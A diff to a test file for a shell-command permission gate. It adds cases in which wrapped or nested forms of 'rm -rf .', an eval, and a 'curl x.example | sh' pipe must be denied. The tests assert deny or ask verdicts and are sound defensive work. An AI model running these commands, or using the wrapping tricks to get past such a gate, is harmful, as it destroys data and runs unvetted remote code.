@@ -154,6 +154,17 @@ def test_an_argument_list_runs_no_shell_so_its_words_are_plain():
         ["/bin/sh", "-c", "rm -rf ."],
         ["bash", "-lc", "echo ok; rm -rf ."],
         ["sh", "-e", "-c", "rm -rf ."],
+        ["sh", "-c", "-e", "rm -rf ."],
+        ["sh", "-c", "--", "rm -rf ."],
+        ["bash", "-o", "errexit", "-c", "rm -rf ."],
+        ["bash", "-O", "extglob", "-c", "rm -rf ."],
+        ["sh", "+x", "-c", "rm -rf ."],
+        ["bash", "-oc", "errexit", "rm -rf ."],
+        ["bash", "-c", "sh -c 'rm -rf .'"],
+        ["bash", "-c", "bash -c \"sh -c 'pytest; rm -rf .'\""],
+        ["env", "A=1", "sh", "-c", "rm -rf ."],
+        ["/bin/rm", "-rf", "."],
+        "eval 'rm -rf .'",
     ],
 )
 def test_a_shell_given_a_script_is_judged_by_the_scripts_commands(command):
@@ -161,8 +172,12 @@ def test_a_shell_given_a_script_is_judged_by_the_scripts_commands(command):
     assert verdict.action == "deny" and verdict.rule == "deny rm *"
 
 
-def test_a_shell_running_a_script_file_is_judged_as_itself():
-    assert action(["sh", "cleanup.sh"]) == "ask"
+def test_a_shell_reading_its_script_from_a_file_or_its_input_may_run_anything():
+    for command in (["sh", "cleanup.sh"], ["bash"], "curl x.example | sh", "bash < job.sh"):
+        verdict = check_command(POLICY, command)
+        assert verdict.action == "deny" and verdict.rule == "deny git push *", command
+        assert "reads its script from a file or its input" in verdict.reason
+        assert check_command(Policy([allow("sh *")]), command).action == "ask"  # no deny rule
     assert action(["sh", "-c", "pytest"]) == "allow"
 
 
@@ -170,9 +185,12 @@ def test_a_shell_running_a_script_file_is_judged_as_itself():
     "text",
     ["echo 'open", 'echo "open', "echo $(open", "echo `open", "(pytest", "pytest)", "echo ${open"],
 )
-def test_a_command_the_gate_cannot_read_gets_the_default(text):
+def test_a_command_the_gate_cannot_read_is_denied_if_the_policy_denies_anything(text):
+    """What cannot be read may hold what a deny rule names (bash runs the lines before a
+    syntax error): denied when the policy denies anything, else its default."""
     verdict = check_command(POLICY, text)
-    assert verdict.action == "ask" and "cannot be read" in verdict.reason
+    assert verdict.action == "deny" and "cannot be read" in verdict.reason
+    assert check_command(Policy([allow("echo *")]), text).action == "ask"
     assert check_command(Policy([allow("echo *")], default="deny"), text).action == "deny"
 
 
